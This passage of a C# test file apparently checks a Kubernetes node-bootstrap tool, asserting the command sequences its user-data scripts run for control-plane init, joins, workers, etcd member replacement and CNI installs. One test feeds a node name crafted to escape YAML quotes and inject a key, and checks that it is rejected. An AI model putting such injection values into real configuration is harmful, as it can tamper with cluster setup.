using Kgen.Tests.Support;

namespace Kgen.Tests.Sandbox;

/// <summary>
/// Each rendered user-data script runs in a <see cref="NodeSandbox"/>, and the sequence of what
/// it did is asserted for the ways a node can find the cluster: the first control-plane node of
/// an empty cluster, a second control-plane node, a worker, a replacement of the first node
/// while the cluster is live, and an API that is not up yet.
/// </summary>
[System.Runtime.Versioning.SupportedOSPlatform("linux")]
public sealed class SandboxTests
{
    private const string ApiEndpoint = "api.internal.sandbox.k8s.local:443";

    [Fact]
    public void First_control_plane_node_of_an_empty_cluster_attaches_its_volumes_and_runs_kubeadm_init()
    {
        using var box = new NodeSandbox();
        box.SetState("api", "down");

        var (exit, output) = box.Run(box.UserData("control-plane-us-east-1a"), "ip-10-0-1-10.ec2.internal", "10.0.1.10", "us-east-1a");

        Assert.True(exit == 0, output);
        var calls = box.Calls;
        AssertInOrder(
            calls,
            "systemctl restart systemd-resolved",
            "apt-get -q -y",
            "systemctl enable kubelet",
            "aws ec2 describe-volumes --region us-east-1 --filters Name=tag:KubernetesCluster,Values=sandbox.k8s.local Name=tag-key,Values=k8s.io/etcd/main Name=tag:kgen.dev/instancegroup,Values=control-plane-us-east-1a Name=availability-zone,Values=us-east-1a",
            "aws ec2 attach-volume --region us-east-1 --volume-id vol-0main0000000000 --instance-id i-0100110 --device /dev/xvdu",
            "aws ec2 wait volume-in-use --region us-east-1 --volume-ids vol-0main0000000000",
            "mkfs.ext4 -q -L etcd-main",
            "systemctl enable var-lib-etcd.mount",
            "mount -t ext4",
            $"curl -fsS --cacert {box.Root}/run/kgen/ca.crt --connect-timeout 5 --max-time 10 -o /dev/null https://{ApiEndpoint}/readyz",
            "sleep 5",
            "curl",
            "sleep 10",
            "curl",
            "aws elbv2 describe-load-balancers --names api-sandbox-k8s-local-",
            "aws elbv2 describe-load-balancers --names api-internal-sandbox-k8s-",
            "kubeadm token generate",
            "kubeadm init --config",
            $"kubeadm token delete --kubeconfig {box.Root}/etc/kubernetes/admin.conf initme",
            "systemctl enable --now kgen-etcd-snapshot.timer",
            "curl -fsSL --proto =https --connect-timeout 10 --max-time 600 -o",
            "kubectl apply --server-side --force-conflicts --field-manager=kgen -f",
            // After the CNI, the add-ons: the runner once (it reads the index), then its timer.
            "systemctl enable kgen-addons.timer",
            "aws ssm get-parameter --region us-east-1 --name /kgen/sandbox.k8s.local/addons",
            "systemctl start kgen-addons.timer");
        Assert.Contains("[kgen-addons] every add-on is applied", output, StringComparison.Ordinal);
        Assert.DoesNotContain(calls, c => c.StartsWith("kubeadm join", StringComparison.Ordinal));
        Assert.Equal(3, calls.Count(c => c.EndsWith("/readyz", StringComparison.Ordinal)));

        var init = box.ReadCaptured("kubeadm-init.yaml");
        Assert.Contains($"  - token: \"{NodeSandbox.InitToken}\"\n    ttl: \"15m0s\"\n", init, StringComparison.Ordinal);
        Assert.Contains(
            "    - name: \"authentication-token-webhook-config-file\"\n      value: \"/etc/kubernetes/aws-iam-authenticator/kubeconfig.yaml\"\n",
            init,
            StringComparison.Ordinal);
        Assert.Contains("      hostPath: \"/etc/kubernetes/aws-iam-authenticator\"\n", init, StringComparison.Ordinal);
        Assert.Contains($"controlPlaneEndpoint: \"{ApiEndpoint}\"", init, StringComparison.Ordinal);
        Assert.Contains("kubernetesVersion: \"v1.34.2\"", init, StringComparison.Ordinal);
        Assert.Contains(
            "    - \"api.internal.sandbox.k8s.local\"\n    - \"api-sandbox-k8s-local-0123456789.elb.us-east-1.amazonaws.com\"\n    - \"api-internal-sandbox-k8s-0123456789.elb.us-east-1.amazonaws.com\"\n",
            init,
            StringComparison.Ordinal);
        Assert.Contains("podSubnet: \"100.96.0.0/11\"", init, StringComparison.Ordinal);
        Assert.Contains("serviceSubnet: \"100.64.0.0/13\"", init, StringComparison.Ordinal);
        Assert.Contains("dataDir: \"/var/lib/etcd/data\"", init, StringComparison.Ordinal);
        Assert.Contains("advertiseAddress: \"10.0.1.10\"\n  bindPort: 6443", init, StringComparison.Ordinal);
        Assert.Contains("name: \"ip-10-0-1-10.ec2.internal\"", init, StringComparison.Ordinal);
        Assert.Contains("    - key: \"node-role.kubernetes.io/control-plane\"\n      effect: \"NoSchedule\"", init, StringComparison.Ordinal);
        Assert.Contains("shutdownGracePeriod: \"60s\"", init, StringComparison.Ordinal);
        Assert.Contains("kubeReserved:", init, StringComparison.Ordinal);
        Assert.DoesNotContain("@@", init, StringComparison.Ordinal);

        // The cluster's names (.local) go to the VPC resolver, set up before the first lookup (apt).
        AssertResolvesClusterNames(box);

        // logind lets the kubelet hold a shutdown a little longer than its grace period.
        Assert.Contains("InhibitDelayMaxSec=75\n", File.ReadAllText(Path.Combine(box.Root, "etc", "systemd", "logind.conf.d", "99-kgen-kubelet.conf")), StringComparison.Ordinal);

        // The CAs from the config store, where kubeadm looks for them; keys readable by root only.
        var pki = Path.Combine(box.Root, "etc", "kubernetes", "pki");
        Assert.Equal(File.ReadAllText(Path.Combine(box.Store, "pki", "ca.key")), File.ReadAllText(Path.Combine(pki, "ca.key")));
        Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(Path.Combine(pki, "etcd", "ca.key")));
        Assert.True(File.Exists(Path.Combine(pki, "sa.pub")));

        // The volume comes back after a reboot through a mount unit the kubelet requires (no nofail
        // fstab line that would let etcd start on the root disk); only main has a volume.
        Assert.DoesNotContain("/var/lib/etcd", File.ReadAllText(Path.Combine(box.Root, "etc", "fstab")), StringComparison.Ordinal);
        var mount = File.ReadAllText(Path.Combine(box.Root, "etc", "systemd", "system", "var-lib-etcd.mount"));
        Assert.Contains("What=/dev/disk/by-uuid/uuid-nvme-vol-0main0000000000\nWhere=/var/lib/etcd\nType=ext4\n", mount, StringComparison.Ordinal);
        Assert.Contains("RequiredBy=kubelet.service", mount, StringComparison.Ordinal);
        Assert.Equal("[Unit]\nRequiresMountsFor=/var/lib/etcd\n", File.ReadAllText(Path.Combine(box.Root, "etc", "systemd", "system", "kubelet.service.d", "20-kgen-etcd-main.conf")));
        Assert.DoesNotContain(calls, c => c.Contains("etcd/events", StringComparison.Ordinal));
        Assert.False(Directory.Exists(Path.Combine(box.Root, "run", "kgen")));

        // flannel gets the cluster's pod CIDR; the token never reaches the log, and it is gone once init is done.
        Assert.Contains("flannel v0.28.8 (vxlan, pods 100.96.0.0/11) is applied", output, StringComparison.Ordinal);
        var log = File.ReadAllText(Path.Combine(box.Root, "var", "log", "kgen-bootstrap.log"));
        Assert.Contains("creating cluster sandbox.k8s.local with kubeadm init", log, StringComparison.Ordinal);
        Assert.DoesNotContain(NodeSandbox.InitToken.Split('.')[1], log, StringComparison.Ordinal);
        Assert.Empty(box.LiveTokens);
        AssertNoTokenInTheStore(box);

        // aws-iam-authenticator: the workers' role in this account becomes system:node:<EC2 private DNS name>, the
        // control plane's role nothing; it serves on 127.0.0.1 with a certificate made here, the only one the API trusts.
        AssertAuthenticator(box);
        Assert.DoesNotContain(calls, c => c.Contains("kgen-rotate-join-token", StringComparison.Ordinal));
    }

    [Fact]
    public void Second_control_plane_node_waits_for_the_api_and_joins_as_a_control_plane_node()
    {
        using var box = new NodeSandbox();
        box.SetState("api", "up");

        var (exit, output) = box.Run(box.UserData("control-plane-us-east-1b"), "ip-10-0-2-20.ec2.internal", "10.0.2.20", "us-east-1b");

        Assert.True(exit == 0, output);
        var calls = box.Calls;
        AssertInOrder(
            calls,
            "aws ec2 attach-volume --region us-east-1 --volume-id vol-0main0000000000",
            $"https://{ApiEndpoint}/readyz",
            "kubeadm kubeconfig user --config",
            "kubectl --kubeconfig",
            "aws ec2 describe-instances --region us-east-1 --filters Name=tag:aws:autoscaling:groupName,Values=control-plane-us-east-1a.masters.sandbox.k8s.local,control-plane-us-east-1b.masters.sandbox.k8s.local,control-plane-us-east-1c.masters.sandbox.k8s.local Name=instance-state-name,Values=pending,running",
            $"kubeadm token create --kubeconfig {box.Root}/run/kgen/bootstrap.kubeconfig --ttl 15m0s --description kgen: join of i-0100220, deleted after it",
            "kubeadm join --config",
            $"kubeadm token delete --kubeconfig {box.Root}/run/kgen/bootstrap.kubeconfig joinme",
            "systemctl enable --now kgen-etcd-snapshot.timer",
            "kubectl apply --server-side");
        Assert.DoesNotContain(calls, c => c.StartsWith("kubeadm init", StringComparison.Ordinal) || c.Contains("describe-load-balancers", StringComparison.Ordinal));
        Assert.DoesNotContain(calls, c => c.Contains("get nodes", StringComparison.Ordinal) || c.Contains("member remove", StringComparison.Ordinal));
        Assert.Empty(box.LiveTokens);
        AssertNoTokenInTheStore(box);
        AssertAuthenticator(box);

        var join = box.ReadCaptured("kubeadm-join.yaml");
        Assert.Contains($"apiServerEndpoint: \"{ApiEndpoint}\"", join, StringComparison.Ordinal);
        Assert.Contains($"token: \"{NodeSandbox.JoinToken}\"", join, StringComparison.Ordinal);
        Assert.Contains($"      - \"{NodeSandbox.CaHash}\"", join, StringComparison.Ordinal);
        Assert.Contains("controlPlane:\n  localAPIEndpoint:\n    advertiseAddress: \"10.0.2.20\"\n    bindPort: 6443", join, StringComparison.Ordinal);
        Assert.Contains("node-role.kubernetes.io/control-plane", join, StringComparison.Ordinal);
    }

    [Fact]
    public void Worker_holds_no_token_and_its_kubelet_is_configured_for_its_own_name_and_aws_identity_only()
    {
        // The store holds only pki/ca.crt, as the workers' IAM role allows; there is no token anywhere to read.
        using var box = new NodeSandbox(workerStore: true);
        box.SetState("api", "up");

        var (exit, output) = box.Run(box.UserData("workers"), "ip-10-0-3-30.ec2.internal", "10.0.3.30", "us-east-1c");

        Assert.True(exit == 0, output);
        var calls = box.Calls;
        var kubeconfig = $"{box.Root}/etc/kubernetes/kubelet.conf";
        AssertInOrder(
            calls,
            "systemctl restart systemd-resolved",
            "apt-get -q -y",
            "systemctl enable kubelet",
            $"https://{ApiEndpoint}/readyz",
            "systemctl daemon-reload",
            "systemctl restart kubelet",
            $"kubectl --kubeconfig {kubeconfig} get node ip-10-0-3-30.ec2.internal -o jsonpath=");
        AssertResolvesClusterNames(box);
        Assert.DoesNotContain(calls, c => (c.StartsWith("aws ", StringComparison.Ordinal) && c != "aws --version") || c.StartsWith("kubeadm init", StringComparison.Ordinal)
            || c.StartsWith("kubeadm join", StringComparison.Ordinal) || c.StartsWith("kubeadm token", StringComparison.Ordinal));
        Assert.Contains("worker node ip-10-0-3-30.ec2.internal joined cluster sandbox.k8s.local", output, StringComparison.Ordinal);
        Assert.DoesNotContain("tokens/", box.NodeScript("workers"), StringComparison.Ordinal);
        AssertNoTokenInTheStore(box);

        // The kubelet's credential is the instance's AWS identity: the AWS CLI presigns sts:GetCallerIdentity for
        // this cluster's ID; nothing in the kubeconfig is a secret.
        var kubelet = File.ReadAllText(kubeconfig);
        Assert.Contains(
            "    user:\n      exec:\n        apiVersion: \"client.authentication.k8s.io/v1beta1\"\n        command: \"/usr/local/bin/aws\"\n        args:\n" +
            "          - \"--region\"\n          - \"us-east-1\"\n          - \"eks\"\n          - \"get-token\"\n          - \"--cluster-name\"\n          - \"sandbox.k8s.local\"\n",
            kubelet,
            StringComparison.Ordinal);
        Assert.Contains("      server: \"https://api.internal.sandbox.k8s.local:443\"", kubelet, StringComparison.Ordinal);
        Assert.Contains("certificate-authority: \"/etc/kubernetes/pki/ca.crt\"", kubelet, StringComparison.Ordinal);
        Assert.DoesNotContain("token", kubelet.Replace("get-token", string.Empty, StringComparison.Ordinal), StringComparison.Ordinal);
        Assert.DoesNotContain("client-certificate", kubelet, StringComparison.Ordinal);
        Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(kubeconfig));
        Assert.Equal(File.ReadAllText(Path.Combine(box.Store, "pki", "ca.crt")), File.ReadAllText(Path.Combine(box.Root, "etc", "kubernetes", "pki", "ca.crt")));

        // Its name is the instance's private DNS name from the metadata, the name the authenticator maps its role to;
        // no bootstrap kubeconfig (which would make the kubelet ask for a certificate).
        var unit = File.ReadAllText(Path.Combine(box.Root, "etc", "systemd", "system", "kubelet.service.d", "10-kubeadm.conf"));
        Assert.Contains(
            "[Service]\nExecStart=\nExecStart=/usr/bin/kubelet --kubeconfig=/etc/kubernetes/kubelet.conf --config=/var/lib/kubelet/config.yaml " +
            "--cloud-provider=external --container-runtime-endpoint=unix:///run/containerd/containerd.sock --hostname-override=ip-10-0-3-30.ec2.internal --node-ip=10.0.3.30 " +
            "--node-labels=example.com/pool=general,kgen.dev/instancegroup=workers " +
            "--image-credential-provider-config=/etc/kubernetes/kgen/credential-providers.yaml --image-credential-provider-bin-dir=/usr/local/libexec/kgen/credential-providers " +
            "--register-with-taints=dedicated=batch:NoSchedule\n",
            unit,
            StringComparison.Ordinal);
        Assert.DoesNotContain("bootstrap-kubeconfig", unit, StringComparison.Ordinal);

        // The cluster's kubelet configuration, with what kubeadm join would have added, and no certificate rotation.
        var config = File.ReadAllText(Path.Combine(box.Root, "var", "lib", "kubelet", "config.yaml"));
        Assert.Contains("  webhook:\n    enabled: true\n  x509:\n    clientCAFile: \"/etc/kubernetes/pki/ca.crt\"\nauthorization:\n  mode: \"Webhook\"\n", config, StringComparison.Ordinal);
        Assert.Contains("clusterDNS:\n  - \"100.64.0.10\"\nclusterDomain: \"cluster.local\"\n", config, StringComparison.Ordinal);
        Assert.Contains("rotateCertificates: false\n", config, StringComparison.Ordinal);
        Assert.Contains("shutdownGracePeriod: \"60s\"", config, StringComparison.Ordinal);

        // A rerun changes nothing and does not restart the kubelet.
        var before = calls.Count;
        var again = box.Run(box.UserData("workers"), "ip-10-0-3-30.ec2.internal", "10.0.3.30", "us-east-1c");
        Assert.True(again.Exit == 0, again.Output);
        Assert.DoesNotContain(box.Calls.Skip(before), c => c == "systemctl restart kubelet");
    }

    [Fact]
    public void A_worker_whose_node_never_gets_ready_stops_with_what_to_check()
    {
        using var box = new NodeSandbox(workerStore: true);
        box.SetState("api", "up");
        box.SetState("node-ready", "False");

        var (exit, output) = box.Run(box.UserData("workers"), "ip-10-0-3-30.ec2.internal", "10.0.3.30", "us-east-1c", apiWaitAttempts: 3);

        Assert.Equal(1, exit);
        Assert.Equal(3, box.Calls.Count(c => c.Contains(" get node ip-10-0-3-30.ec2.internal ", StringComparison.Ordinal)));
        Assert.Contains("FATAL: Node ip-10-0-3-30.ec2.internal is not Ready; check 'journalctl -u kubelet' (its token: aws eks get-token), the control plane's aws-iam-authenticator log", output, StringComparison.Ordinal);
    }

    [Fact]
    public void Registry_mirrors_become_containerd_hosts_files_and_its_config_path()
    {
        using var box = new NodeSandbox(workerStore: true, clusterSpecLines: "  containerd:\n    registryMirrors:\n      docker.io:\n      - https://mirror.example.com\n      - https://mirror-2.example.com:5000\n      '*':\n      - https://cache.example.com\n");
        box.SetState("api", "up");

        var (exit, output) = box.Run(box.UserData("workers"), "ip-10-0-3-31.ec2.internal", "10.0.3.31", "us-east-1c");

        Assert.True(exit == 0, output);

        // containerd 2.x (the stand-in's default config is version 3) reads the hosts folder from its images plugin.
        var config = File.ReadAllText(Path.Combine(box.Root, "etc", "containerd", "config.toml"));
        Assert.Contains("[plugins.'io.containerd.cri.v1.images'.registry]\n  config_path = \"/etc/containerd/certs.d\"", config, StringComparison.Ordinal);
        Assert.Equal(
            "server = \"https://registry-1.docker.io\"\n\n[host.\"https://mirror.example.com\"]\n  capabilities = [\"pull\", \"resolve\"]\n\n[host.\"https://mirror-2.example.com:5000\"]\n  capabilities = [\"pull\", \"resolve\"]\n",
            File.ReadAllText(Path.Combine(box.Root, "etc", "containerd", "certs.d", "docker.io", "hosts.toml")));
        Assert.Equal(
            "\n[host.\"https://cache.example.com\"]\n  capabilities = [\"pull\", \"resolve\"]\n",
            File.ReadAllText(Path.Combine(box.Root, "etc", "containerd", "certs.d", "_default", "hosts.toml")));
    }

    [Fact]
    public void A_boot_value_that_could_leave_its_yaml_quotes_stops_the_node_before_kubeadm_runs()
    {
        using var box = new NodeSandbox(workerStore: true);
        box.SetState("api", "up");

        var (exit, output) = box.Run(box.UserData("workers"), "ip-10-0-3-30\"\n  evil: x", "10.0.3.30", "us-east-1c");

        Assert.Equal(1, exit);
        Assert.Contains("FATAL: the boot-time value of @@NODE_NAME@@ is empty or not [A-Za-z0-9.:_-]+", output, StringComparison.Ordinal);
        Assert.DoesNotContain(box.Calls, c => c.StartsWith("systemctl restart kubelet", StringComparison.Ordinal));
        Assert.False(File.Exists(Path.Combine(box.Root, "etc", "systemd", "system", "kubelet.service.d", "10-kubeadm.conf")));
    }

    private const string Members =
        "2a6f0c4b7d1e9f30, started, ip-10-0-1-10.ec2.internal, https://10.0.1.10:2380, https://10.0.1.10:2379, false\n" +
        "8e9e05c52164694d, started, ip-10-0-2-20.ec2.internal, https://10.0.2.20:2380, https://10.0.2.20:2379, false\n" +
        "91bc3c398fb3c146, started, ip-10-0-3-30.ec2.internal, https://10.0.3.30:2380, https://10.0.3.30:2379, false\n";

    [Fact]
    public void Replaced_first_control_plane_node_removes_the_member_whose_instance_is_gone_and_whose_endpoint_fails_then_joins()
    {
        using var box = new NodeSandbox();
        box.SetState("api", "up");

        // The volumes carry the file systems and etcd data of the instance this one replaces; that instance
        // (10.0.1.10) is terminated and its etcd does not answer.
        box.SetState("fs-nvme-vol-0main0000000000", string.Empty);
        Directory.CreateDirectory(Path.Combine(box.Root, "var", "lib", "etcd", "data", "member"));
        box.SetState("members", Members);
        box.SetState("instances", "10.0.1.99\n10.0.2.20\n10.0.3.30\n");
        box.SetState("unhealthy", "10.0.1.10\n");

        var (exit, output) = box.Run(box.UserData("control-plane-us-east-1a"), "ip-10-0-1-99.ec2.internal", "10.0.1.99", "us-east-1a");

        Assert.True(exit == 0, output);
        var calls = box.Calls;
        AssertInOrder(
            calls,
            "aws ec2 attach-volume --region us-east-1 --volume-id vol-0main0000000000",
            $"https://{ApiEndpoint}/readyz",
            "kubeadm kubeconfig user",
            "-n kube-system get pods -l component=etcd",
            "-n kube-system exec etcd-ip-10-0-1-10.ec2.internal -- etcdctl --endpoints=https://127.0.0.1:2379",
            "aws ec2 describe-instances",
            "etcdctl --endpoints=https://10.0.1.10:2379",
            "member remove 2a6f0c4b7d1e9f30",
            "delete node ip-10-0-1-10.ec2.internal --ignore-not-found",
            "kubeadm token create",
            "kubeadm join --config",
            "kubeadm token delete");
        Assert.DoesNotContain(calls, c => c.StartsWith("kubeadm init", StringComparison.Ordinal) || c.StartsWith("mkfs", StringComparison.Ordinal));
        Assert.Single(calls, c => c.Contains("member remove", StringComparison.Ordinal));

        // Members of running instances are not even health-checked.
        Assert.DoesNotContain(calls, c => c.Contains("--endpoints=https://10.0.2.20:2379", StringComparison.Ordinal) || c.Contains("--endpoints=https://10.0.3.30:2379", StringComparison.Ordinal));
        Assert.Contains("the API answers: the cluster exists", output, StringComparison.Ordinal);
        Assert.Contains("removing etcd member 2a6f0c4b7d1e9f30 (ip-10-0-1-10.ec2.internal, 10.0.1.10): no running instance, endpoint fails", output, StringComparison.Ordinal);

        // The old member's data was moved aside so the new member started from an empty data dir, and removed once it joined.
        Assert.False(Directory.Exists(Path.Combine(box.Root, "var", "lib", "etcd", "data.previous")));
        Assert.False(Directory.Exists(Path.Combine(box.Root, "var", "lib", "etcd", "data")));
        AssertInOrder(box.Calls, "kubeadm join --config", "systemctl enable --now kgen-approve-kubelet-serving.timer");
        Assert.Contains("removed the replaced member's etcd data", output, StringComparison.Ordinal);
        Assert.Contains("controlPlane:", box.ReadCaptured("kubeadm-join.yaml"), StringComparison.Ordinal);
        Assert.Empty(box.LiveTokens);
    }

    [Fact]
    public void A_relabelled_node_does_not_make_the_replacement_remove_a_healthy_member()
    {
        // A worker (or anyone with a kubelet's credentials) labelled the healthy control-plane node ip-10-0-2-20 as
        // being of group control-plane-us-east-1a: the replacement of that group never asks the Nodes.
        using var box = new NodeSandbox();
        box.SetState("api", "up");
        box.SetState("nodes", "ip-10-0-1-10.ec2.internal\nip-10-0-2-20.ec2.internal\n");
        box.SetState("members", Members);
        box.SetState("instances", "10.0.1.10\n10.0.2.20\n10.0.3.30\n");

        var (exit, output) = box.Run(box.UserData("control-plane-us-east-1a"), "ip-10-0-1-99.ec2.internal", "10.0.1.99", "us-east-1a");

        Assert.True(exit == 0, output);
        Assert.DoesNotContain(box.Calls, c => c.Contains("member remove", StringComparison.Ordinal) || c.Contains("delete node", StringComparison.Ordinal)
            || c.Contains(" get nodes", StringComparison.Ordinal) || c.Contains("endpoint health", StringComparison.Ordinal));
        Assert.Contains(box.Calls, c => c.StartsWith("kubeadm join", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("10.0.2.20\n10.0.3.30\n", "", "terminated instance, healthy endpoint")]
    [InlineData("10.0.1.10\n10.0.2.20\n10.0.3.30\n", "10.0.1.10\n", "running instance, failing endpoint")]
    public void A_member_is_removed_only_when_its_instance_is_gone_and_its_endpoint_fails(string instances, string unhealthy, string what)
    {
        using var box = new NodeSandbox();
        box.SetState("api", "up");
        box.SetState("members", Members);
        box.SetState("instances", instances);
        box.SetState("unhealthy", unhealthy);

        var (exit, output) = box.Run(box.UserData("control-plane-us-east-1a"), "ip-10-0-1-99.ec2.internal", "10.0.1.99", "us-east-1a");

        Assert.True(exit == 0, what + "\n" + output);
        Assert.DoesNotContain(box.Calls, c => c.Contains("member remove", StringComparison.Ordinal) || c.Contains("delete node", StringComparison.Ordinal));
    }

    [Fact]
    public void A_control_plane_join_makes_a_short_lived_token_and_deletes_it_also_when_the_join_fails()
    {
        using var box = new NodeSandbox();
        box.SetState("api", "up");
        box.SetState("join-fails", string.Empty);

        var (exit, output) = box.Run(box.UserData("control-plane-us-east-1b"), "ip-10-0-2-20.ec2.internal", "10.0.2.20", "us-east-1b");

        Assert.Equal(1, exit);
        Assert.Contains("FATAL: kubeadm join --control-plane failed 3 times", output, StringComparison.Ordinal);
        var calls = box.Calls;
        Assert.Single(calls, c => c.StartsWith("kubeadm token create", StringComparison.Ordinal) && c.Contains(" --ttl 15m0s ", StringComparison.Ordinal));
        Assert.Equal(3, calls.Count(c => c.StartsWith("kubeadm join", StringComparison.Ordinal)));
        AssertInOrder(calls, "kubeadm token create", "kubeadm join", "kubeadm join", "kubeadm join", "kubeadm token delete");
        Assert.Empty(box.LiveTokens);
        Assert.Contains("deleted bootstrap token joinme", output, StringComparison.Ordinal);
        Assert.DoesNotContain(NodeSandbox.JoinToken.Split('.')[1], output, StringComparison.Ordinal);
        Assert.False(File.Exists(Path.Combine(box.Store, "locks", "control-plane-join")));
        AssertNoTokenInTheStore(box);
    }

    [Fact]
    public void First_group_node_never_runs_init_over_etcd_data_even_when_the_api_does_not_answer()
    {
        using var box = new NodeSandbox();
        box.SetState("api", "down");
        box.SetState("fs-nvme-vol-0main0000000000", string.Empty);
        Directory.CreateDirectory(Path.Combine(box.Root, "var", "lib", "etcd", "data", "member"));

        var (exit, output) = box.Run(box.UserData("control-plane-us-east-1a"), "ip-10-0-1-99.ec2.internal", "10.0.1.99", "us-east-1a", apiWaitAttempts: 4);

        Assert.Equal(1, exit);
        Assert.DoesNotContain(box.Calls, c => c.StartsWith("kubeadm init", StringComparison.Ordinal) || c.StartsWith("kubeadm join", StringComparison.Ordinal));
        Assert.Contains("the etcd volume holds data of an earlier member", output, StringComparison.Ordinal);
        Assert.Contains("FATAL: the API at https://api.internal.sandbox.k8s.local:443 never answered; check", output, StringComparison.Ordinal);
    }

    [Fact]
    public void Api_not_reachable_yet_is_retried_with_backoff_then_the_node_joins()
    {
        using var box = new NodeSandbox(workerStore: true);
        box.SetState("api", "3");

        var (exit, output) = box.Run(box.UserData("workers"), "ip-10-0-3-30.ec2.internal", "10.0.3.30", "us-east-1c");

        Assert.True(exit == 0, output);
        var calls = box.Calls;
        AssertInOrder(calls, "/readyz", "sleep 5", "/readyz", "sleep 10", "/readyz", "sleep 20", "/readyz", "systemctl restart kubelet");
        Assert.Equal(4, calls.Count(c => c.EndsWith("/readyz", StringComparison.Ordinal)));
        Assert.Contains("the API does not answer yet (attempt 3/6); next try in 20s", output, StringComparison.Ordinal);
        Assert.Contains("the API at https://api.internal.sandbox.k8s.local:443 answers", output, StringComparison.Ordinal);
    }

    [Fact]
    public void Api_that_never_answers_stops_the_worker_with_what_to_check()
    {
        using var box = new NodeSandbox(workerStore: true);
        box.SetState("api", "down");

        var (exit, output) = box.Run(box.UserData("workers"), "ip-10-0-3-30.ec2.internal", "10.0.3.30", "us-east-1c", apiWaitAttempts: 5);

        Assert.Equal(1, exit);
        Assert.Equal(5, box.Calls.Count(c => c.EndsWith("/readyz", StringComparison.Ordinal)));
        AssertInOrder(box.Calls, "sleep 5", "sleep 10", "sleep 20", "sleep 30");
        Assert.DoesNotContain(box.Calls, c => c.StartsWith("systemctl restart kubelet", StringComparison.Ordinal));
        Assert.Contains("FATAL: the API at https://api.internal.sandbox.k8s.local:443 never answered; check the control-plane nodes' /var/log/kgen-bootstrap.log", output, StringComparison.Ordinal);
    }

    [Fact]
    public void Calico_is_installed_through_the_tigera_operator_with_the_cluster_pod_cidr()
    {
        using var box = new NodeSandbox("calico");
        box.SetState("api", "down");

        var (exit, output) = box.Run(box.UserData("control-plane-us-east-1a"), "ip-10-0-1-10.ec2.internal", "10.0.1.10", "us-east-1a");

        Assert.True(exit == 0, output);
        AssertInOrder(
            box.Calls,
            "kubeadm init",
            "curl -fsSL --proto =https --connect-timeout 10 --max-time 600 -o " + box.Root + "/run/kgen/tigera-operator.yaml https://raw.githubusercontent.com/projectcalico/calico/v3.32.1/manifests/tigera-operator.yaml",
            "kubectl apply --server-side --force-conflicts --field-manager=kgen -f " + box.Root + "/run/kgen/tigera-operator.yaml",
            "kubectl wait --for=condition=Established --timeout=120s crd/installations.operator.tigera.io",
            "kubectl apply --server-side --force-conflicts --field-manager=kgen -f " + box.Root + "/run/kgen/calico-installation.yaml");
        Assert.Contains("calico v3.32.1 (IP-in-IP, pods 100.96.0.0/11) is applied", output, StringComparison.Ordinal);
    }

    [Fact]
    public void Cilium_is_installed_with_a_pinned_cli_from_the_pinned_chart()
    {
        using var box = new NodeSandbox("cilium");
        box.SetState("api", "down");

        var (exit, output) = box.Run(box.UserData("control-plane-us-east-1a"), "ip-10-0-1-10.ec2.internal", "10.0.1.10", "us-east-1a");

        Assert.True(exit == 0, output);
        AssertInOrder(
            box.Calls,
            "kubeadm init",
            "kubectl -n kube-system get daemonset cilium",
            "https://github.com/cilium/cilium-cli/releases/download/v0.19.7/cilium-linux-amd64.tar.gz",
            "https://raw.githubusercontent.com/cilium/charts/d5f3d1cc0ed8e94d6920996024fefe5a3857dc15/cilium-1.20.0.tgz",
            "tar -xzf",
            "tar -xzf",
            $"cilium install --chart-directory {box.Root}/run/kgen/cilium --version 1.20.0 --set ipam.mode=kubernetes --set routingMode=tunnel --set tunnelProtocol=vxlan");
        Assert.DoesNotContain(box.Calls, c => c.Contains(".sha256sum", StringComparison.Ordinal));
    }

    /// <summary>amazonvpc with one setting of the spec (the sandbox spec's networking line takes a flow map; <c>#</c> comments out the rest).</summary>
    private const string AmazonVpcWithEnv = "amazonvpc: {env: [{name: WARM_IP_TARGET, value: \"5\"}]}\n    #";

    [Fact]
    public void Amazon_vpc_cni_images_are_pulled_with_ecr_credentials_then_the_pinned_manifest_applied_and_the_settings_set()
    {
        using var box = new NodeSandbox(AmazonVpcWithEnv);
        box.SetState("api", "down");

        var (exit, output) = box.Run(box.UserData("control-plane-us-east-1a"), "ip-10-0-1-10.ec2.internal", "10.0.1.10", "us-east-1a");

        Assert.True(exit == 0, output);
        AssertInOrder(
            box.Calls,
            "aws ecr get-login-password --region us-west-2",
            "crictl pull --creds AWS:ecr-password-of-the-sandbox 602401143452.dkr.ecr.us-west-2.amazonaws.com/amazon-k8s-cni-init:v1.23.0",
            "crictl pull --creds AWS:ecr-password-of-the-sandbox 602401143452.dkr.ecr.us-west-2.amazonaws.com/amazon-k8s-cni:v1.23.0",
            "crictl pull --creds AWS:ecr-password-of-the-sandbox 602401143452.dkr.ecr.us-west-2.amazonaws.com/amazon/aws-network-policy-agent:v1.4.1",
            "kubeadm init",
            "curl -fsSL --proto =https --connect-timeout 10 --max-time 600 -o " + box.Root + "/run/kgen/aws-k8s-cni.yaml https://raw.githubusercontent.com/aws/amazon-vpc-cni-k8s/v1.23.0/config/master/aws-k8s-cni.yaml",
            "kubectl apply --server-side --force-conflicts --field-manager=kgen -f " + box.Root + "/run/kgen/aws-k8s-cni.yaml",
            "kubectl -n kube-system set env daemonset/aws-node -c aws-node WARM_IP_TARGET=5");
        Assert.Contains("amazonvpc v1.23.0 is applied", output, StringComparison.Ordinal);

        // The kubelet admits no more pods than a t3.medium has addresses for: 3 ENIs x (6 - 1) + 2.
        Assert.Contains("name: \"max-pods\"\n      value: \"17\"", box.ReadCaptured("kubeadm-init.yaml"), StringComparison.Ordinal);
        Assert.DoesNotContain("podSubnet", box.ReadCaptured("kubeadm-init.yaml"), StringComparison.Ordinal);
        Assert.DoesNotContain("ecr-password-of-the-sandbox", output, StringComparison.Ordinal);
    }

    [Fact]
    public void A_worker_pulls_the_cni_images_and_its_kubelet_admits_only_what_its_instance_type_has_addresses_for()
    {
        using var box = new NodeSandbox("amazonvpc", workerStore: true);
        box.SetState("api", "up");

        var (exit, output) = box.Run(box.UserData("workers"), "ip-10-0-3-30.ec2.internal", "10.0.3.30", "us-east-1c");

        Assert.True(exit == 0, output);
        AssertInOrder(box.Calls, "aws ecr get-login-password --region us-west-2", "crictl pull --creds", "systemctl restart kubelet");
        var unit = File.ReadAllText(Path.Combine(box.Root, "etc", "systemd", "system", "kubelet.service.d", "10-kubeadm.conf"));
        Assert.Contains(" --max-pods=35", unit, StringComparison.Ordinal); // t3.large: 3 x (12 - 1) + 2
    }

    [Fact]
